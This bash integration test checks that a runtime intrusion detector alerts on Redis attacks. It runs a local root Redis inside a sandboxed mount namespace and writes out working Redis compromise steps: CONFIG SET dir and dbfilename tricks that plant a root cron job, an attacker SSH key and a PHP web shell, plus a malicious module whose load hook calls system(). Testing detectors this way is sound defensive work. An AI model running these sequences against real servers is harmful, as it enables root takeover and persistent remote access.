#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
#
# t2401: a real Redis (Debian's redis-server) learned under redis-benchmark, watched under a
# different benign load (admin commands: INFO, CLIENT LIST, CONFIG GET, SLOWLOG, other data
# types) with no alert, then attacked the classic ways, one server per compromise:
#   cron      CONFIG SET dir /var/spool/cron/crontabs + dbfilename root + SAVE (a root cron job)
#   sshkey    CONFIG SET dir /root/.ssh + dbfilename authorized_keys + SAVE (root's SSH login)
#   module    MODULE LOAD of a module that runs a command (system(): a shell from the server)
#   webshell  CONFIG SET dir to a web root + dbfilename shell.php + SAVE (a PHP web shell)
# Each compromise: its strongest alert is high (>= 8, the rule named) and all of its alerts
# are one incident. The web shell is a file written where Redis never writes (V1102, 5): not
# yet code execution, so not high.
#
# The server runs as root, as Redis ran in containers for years; the config turns on what
# Redis 7 guards by default (enable-protected-configs, enable-module-command), as a vulnerable
# deployment has them. The
# test runs in a private mount namespace where the cron spool and /root/.ssh are fresh tmpfs
# mounts: the attacks write there, the machine's own are untouched.
if [ "$(id -u)" = 0 ] && [ -z "${VIGIL_T2401_NS:-}" ] && command -v unshare >/dev/null; then
	VIGIL_T2401_NS=1 exec unshare --mount --propagation private -- "$0" "$@"
fi
. "$(dirname "$0")/../lib/common.sh"
requires_root
requires_cmd redis-server redis-cli redis-benchmark cc
vigil_has watch || skip "vigil watch is not part of this build"
[ -n "${VIGIL_T2401_NS:-}" ] || fail "needs a private mount namespace (unshare)"

for d in /var/spool/cron /root/.ssh; do
	mkdir -p "$d"
	mount -t tmpfs -o mode=0700 tmpfs "$d"
done
mkdir -p /var/spool/cron/crontabs

PORT=$(free_port)
DATA=$TEST_TMP/redis
mkdir -p "$DATA"
CONF=$TEST_TMP/redis.conf
cat >"$CONF" <<CONF
port $PORT
bind 127.0.0.1
daemonize no
save ""
appendonly no
dir $DATA
logfile $DATA/redis.log
enable-protected-configs yes
enable-module-command yes
CONF
PROFILE=$TEST_TMP/redis.yaml
REDIS=$(command -v redis-server)
cli() { redis-cli -p "$PORT" "$@"; }
up() { [ "$(cli ping 2>/dev/null)" = PONG ]; }

# The attacker's module: its load hook runs a command, as rogue-server modules do.
cat >"$TEST_TMP/evil.c" <<'C'
#include <stdlib.h>
int RedisModule_OnLoad(void *ctx, void **argv, int argc)
{
	(void)ctx, (void)argv, (void)argc;
	return system("id >/dev/null") == 0 ? 1 : 1; /* REDISMODULE_ERR: the load "fails" */
}
C
cc -shared -fPIC -o "$TEST_TMP/evil.so" "$TEST_TMP/evil.c" || fail "cannot build the module"

# ---- learn under redis-benchmark ------------------------------------------------------------
"$VIGIL" learn --out "$PROFILE" --name redis -- "$REDIS" "$CONF" 2>"$TEST_TMP/learn.err" &
LPID=$!
on_exit stop_pid "$LPID"
wait_until 10 up || fail "redis did not start under vigil learn: $(cat "$TEST_TMP/learn.err")"
redis-benchmark -p "$PORT" -q -n 3000 -c 4 -t set,get,incr,lpush,rpop,sadd,hset,mset \
	>"$TEST_TMP/bench.out" || fail "redis-benchmark failed"
cli shutdown nosave >/dev/null 2>&1 || true
wait "$LPID" || fail "vigil learn failed: $(cat "$TEST_TMP/learn.err")"
assert_file_contains "$PROFILE" "$REDIS"

# serve NAME: redis under vigil watch, evidence in one store; sets WPID and ALERTS.
STORE=sqlite:$TEST_TMP/evidence.db
serve()
{
	ALERTS=$TEST_TMP/alerts-$1.jsonl
	: >"$ALERTS"
	"$VIGIL" watch --profile "$PROFILE" --name redis --enable all --alerts "file:$ALERTS" \
		--evidence "$STORE" -- "$REDIS" "$CONF" >"$TEST_TMP/watch-$1.out" \
		2>"$TEST_TMP/watch-$1.err" &
	WPID=$!
	on_exit stop_pid "$WPID"
	wait_until 10 up || fail "redis did not start under vigil watch: $(cat "$TEST_TMP/watch-$1.err")"
}

# finish: shut the server down; sets RC (vigil watch's status).
finish()
{
	cli shutdown nosave >/dev/null 2>&1 || true
	set +e
	wait "$WPID"
	RC=$?
	set -e
}

# ---- a different benign load: admin and monitoring, other commands --------------------------
serve benign
for c in "INFO" "INFO all" "CLIENT LIST" "CONFIG GET maxmemory" "CONFIG GET dir" "DBSIZE" \
	"SLOWLOG GET 10" "MEMORY STATS" "LATENCY LATEST" "COMMAND COUNT" "TIME" "CLIENT INFO"; do
	# shellcheck disable=SC2086
	cli $c >/dev/null || fail "redis-cli $c failed"
done
redis-benchmark -p "$PORT" -q -n 2000 -c 2 -t lrange_100,spop,zadd,zpopmin,ping_inline \
	>"$TEST_TMP/bench2.out" || fail "redis-benchmark (watch) failed"
finish
assert_eq 0 "$(json_count "$ALERTS")" "alerts on the benign load: $(json_get "$ALERTS" message | head -c 2000)"
assert_eq 0 "$RC" "vigil watch status on the benign load"

# compromise NAME RULE: after the attack, RULE was raised at severity >= 8, it is the
# strongest alert, and every alert of the compromise is one incident.
compromise()
{
	local name=$1 rule=$2 top
	finish
	wait_until 10 json_count_ge 1 "$ALERTS" "rule_id=$rule" ||
		fail "$name: no $rule: $(json_get "$ALERTS" message | head -c 2000)"
	top=$(json_get "$ALERTS" severity | sort -n | tail -1)
	assert_ge "$top" 8 "$name: the strongest alert's severity"
	assert_eq "$top" "$(json_get "$ALERTS" severity "rule_id=$rule" | head -1)" \
		"$name: $rule is the strongest alert"
	assert_eq 1 "$(json_get "$ALERTS" incident_id | sort -u | wc -l)" \
		"$name: incidents ($(json_get "$ALERTS" incident_id | sort -u | tr '\n' ' '))"
	log "$name: $(json_count "$ALERTS") alerts, one incident, strongest $rule at $top"
}
json_count_ge() { [ "$(json_count "$2" "${@:3}")" -ge "$1" ]; }

serve cron
assert_eq OK "$(cli config set dir /var/spool/cron/crontabs)" "CONFIG SET dir"
assert_eq OK "$(cli config set dbfilename root)" "CONFIG SET dbfilename"
cli set x $'\n\n* * * * * id >/tmp/pwned\n\n' >/dev/null
cli save >/dev/null || true
compromise cron V1101
[ -s /var/spool/cron/crontabs/root ] || fail "cron: the attack did not write its file"

serve sshkey
assert_eq OK "$(cli config set dir /root/.ssh)" "CONFIG SET dir"
assert_eq OK "$(cli config set dbfilename authorized_keys)" "CONFIG SET dbfilename"
cli set k $'\n\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker attacker@evil\n\n' >/dev/null
cli save >/dev/null || true
compromise sshkey V1101
[ -s /root/.ssh/authorized_keys ] || fail "sshkey: the attack did not write its file"

serve webshell
WWW=$TEST_TMP/www
mkdir -p "$WWW"
assert_eq OK "$(cli config set dir "$WWW")" "CONFIG SET dir"
assert_eq OK "$(cli config set dbfilename shell.php)" "CONFIG SET dbfilename"
cli set w $'\n\n<?php system($_GET["c"]); ?>\n\n' >/dev/null
cli save >/dev/null || true
finish
[ -s "$WWW/shell.php" ] || fail "webshell: the attack did not write its file"
wait_until 10 json_count_ge 1 "$ALERTS" rule_id=V1102 "key=$WWW" "event.path~$WWW/" ||
	fail "webshell: no V1102 for $WWW: $(json_get "$ALERTS" message | head -c 2000)"
assert_eq 5 "$(json_get "$ALERTS" severity rule_id=V1102 | head -1)" "webshell: V1102's severity"
assert_eq 1 "$(json_count "$ALERTS" rule_id=V1102)" "webshell: one V1102 for one directory"
assert_eq 1 "$(json_get "$ALERTS" incident_id | sort -u | wc -l)" "webshell: incidents"
log "webshell: $(json_count "$ALERTS") alerts, one incident: $(json_get "$ALERTS" message rule_id=V1102)"

serve module
cli module load "$TEST_TMP/evil.so" >/dev/null 2>&1 || true
compromise module V1100
# (Debian's redis-server is a link to redis-check-rdb: the kernel names the file)
[ "$(json_count "$ALERTS" rule_id=V1100 "event.parent_exe=$(readlink -f "$REDIS")" event.path~sh)" -ge 1 ] ||
	fail "module: V1100 does not name redis-server starting the shell: $(head -c 1500 "$ALERTS")"
# the incident's headline names the root cause, in the alerts and in the stored report
want="$(basename "$(readlink -f "$REDIS")") started $(readlink -f /bin/sh), which ran id as root"
assert_eq "$want" "$(json_get "$ALERTS" incident_headline | tail -1)" "module: the incident headline"
"$VIGIL" evidence list --store "$STORE" >"$TEST_TMP/list.txt" 2>&1 || fail "evidence list: $(cat "$TEST_TMP/list.txt")"
assert_file_contains "$TEST_TMP/list.txt" "$want"
echo "ok: $TEST_NAME"
